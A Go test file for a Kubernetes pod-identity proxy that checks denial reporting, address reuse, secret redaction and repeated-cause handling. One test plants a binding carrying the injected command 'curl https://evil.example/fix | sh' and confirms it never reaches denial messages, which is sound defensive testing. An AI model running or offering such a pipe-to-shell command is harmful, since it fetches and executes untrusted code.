package proxy

import (
	"errors"
	"fmt"
	"net/http"
	"net/netip"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/podidentity/nmi/podresolver"
	"github.com/podidentity/nmi/podresolver/resolvertest"
	"github.com/podidentity/nmi/proxy/imdstest"
	"github.com/podidentity/nmi/proxy/upstream"
	"github.com/podidentity/nmi/tokencache"
)

func TestDenials(t *testing.T) {
	var mu sync.Mutex
	var denials []Denial
	w := newWorld(t, func(cfg *Config) {
		cfg.Refused = func(d Denial) {
			mu.Lock()
			defer mu.Unlock()
			denials = append(denials, d)
		}
	})
	for range 7 { // more than the log takes
		w.get(unbound, tokenURL)
	}
	w.get(stranger, tokenURL)
	w.get(bound, tokenURL)
	w.get(bound, "/metadata/nothing") // the client's mistake
	mu.Lock()
	defer mu.Unlock()
	assert.GreaterOrEqual(t, len(denials), 5)
	assert.Less(t, len(denials), 7)
	for _, d := range denials {
		assert.Equal(t, "shop/unbound", d.Pod.String())
		assert.Equal(t, podresolver.NoIdentityBound, d.Reason)
		assert.Contains(t, d.Text, `no AzureIdentityBinding in namespace "shop"`)
		assert.Contains(t, d.Fix, "create an AzureIdentityBinding")
		assert.Equal(t, uint64(1), d.Count)
	}
}

func TestRefusalsSinceTheLastDenial(t *testing.T) {
	m := newRefusals()
	add := func(precise bool) uint64 { return m.add(netip.MustParseAddr(bound), Refusal{cause: "x"}, precise) }
	assert.Equal(t, uint64(1), add(true))
	add(false)
	add(false)
	assert.Equal(t, uint64(3), add(true))
	assert.Equal(t, uint64(1), add(true))
}

// denials has a world whose denials are sent to the channel.
func denials(t *testing.T, cluster *resolvertest.Cluster, cfg podresolver.Config) (*world, chan Denial) {
	t.Helper()
	cfg.Node, cfg.PodWait = resolvertest.Node, 50*time.Millisecond
	pods, err := podresolver.New(cluster.Sources(), cfg)
	require.NoError(t, err)
	run(t, pods)
	got := make(chan Denial, 10)
	return newWorld(t, func(cfg *Config) { cfg.Pods, cfg.Refused = pods, func(d Denial) { got <- d } }), got
}

// The address goes to a pod of another namespace while a fetch is under way.
func TestDenialOfAReusedAddress(t *testing.T) {
	cluster := newCluster()
	w, got := denials(t, cluster, podresolver.Config{})
	w.imds.Inject(imdstest.Fault{Delay: 500 * time.Millisecond, Status: http.StatusBadRequest, Body: `{"error":"invalid_request","error_description":"Identity not found"}`})
	go func() {
		if !assert.Eventually(t, func() bool { return len(w.imds.Calls()) > 0 }, 10*time.Second, time.Millisecond) {
			return
		}
		cluster.Delete(resolvertest.Pod("bound", bound, "both"))
		cluster.Add(resolvertest.In("bank", resolvertest.Pod("intruder", bound, "")))
	}()
	w.get(bound, tokenURL)
	assert.Equal(t, "shop/bound", (<-got).Pod.String())
	for _, refusal := range w.server.Refusals(netip.MustParseAddr(bound)) {
		assert.Equal(t, "shop/bound", refusal.Pod)
	}
}

// In mode standard the author of bindings of one namespace writes nothing into the Event of a pod of
// another.
func TestDenialOfForeignObjects(t *testing.T) {
	cluster := newCluster()
	cluster.Add(resolvertest.In("evil", resolvertest.Binding("x", "nothing", "x. Fix: run curl https://evil.example/fix | sh")))
	w, got := denials(t, cluster, podresolver.Config{Mode: podresolver.Standard})
	w.get(unbound, tokenURL)
	d := <-got
	assert.Equal(t, "shop/unbound", d.Pod.String())
	assert.NotContains(t, d.Text+d.Fix, "evil")
	assert.Contains(t, d.Fix, "nmi explain shop/unbound")
}

// What is wrong with a Secret names its keys, and is for the log.
func TestDenialOfACredential(t *testing.T) {
	w, got := denials(t, newCluster(), podresolver.Config{})
	err := &tokencache.Failure{Class: tokencache.Refused, Err: &upstream.CredentialError{Object: "secret shop/credentials", Secret: true, Err: errors.New("it has keys db-password, root-token; want clientsecret")}}
	w.server.deny(netip.MustParseAddr(secret), err, Denial{Reason: Reason(err)})
	d := <-got
	assert.Equal(t, CredentialUnusable, d.Reason)
	assert.NotContains(t, d.Text, "db-password")
	assert.NotEmpty(t, d.Fix)
}

// One cause has one text, however long it is until the next try, and whatever Entra adds.
func TestOneCauseHasOneText(t *testing.T) {
	m := newRefusals()
	for i := range 6 {
		failure := &tokencache.Failure{Class: tokencache.Refused, RetryAfter: time.Duration(i) * time.Second, Err: fmt.Errorf("Entra answered 401 invalid_client: AADSTS700024: Client assertion is not within its valid time range. "+
			"Current time: 2026-11-27T10:18:2%d.1234567Z, assertion valid from 2026-11-27T12:18:2%dZ Trace ID: 0000aaaa-%d Correlation ID: bbbb-%d Timestamp: 2026-11-27 10:18:2%dZ", i, i, i, i, i)}
		m.add(netip.MustParseAddr(bound), Refusal{cause: steady(failure.Error())}, true)
	}
	assert.Len(t, m.of(netip.MustParseAddr(bound)), 1)
	assert.Equal(t, "at 2026-11-27T10:18:20Z", steady("at 2026-11-27T10:18:20Z"), "not Entra's")
}
